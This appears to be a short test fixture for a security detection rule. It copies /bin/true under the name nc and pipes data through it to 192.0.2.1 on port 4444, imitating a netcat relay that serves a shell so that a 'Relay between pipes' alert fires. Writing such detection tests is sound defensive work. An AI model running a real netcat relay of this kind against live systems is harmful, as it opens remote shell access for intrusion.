# SPDX-License-Identifier: Apache-2.0
# technique: A relay with pipes on both sides talks for a shell
# alert: Relay between pipes
# field: proc.exepath=*/nc
cp /bin/true nc
echo x | ./nc 192.0.2.1 4444 | cat
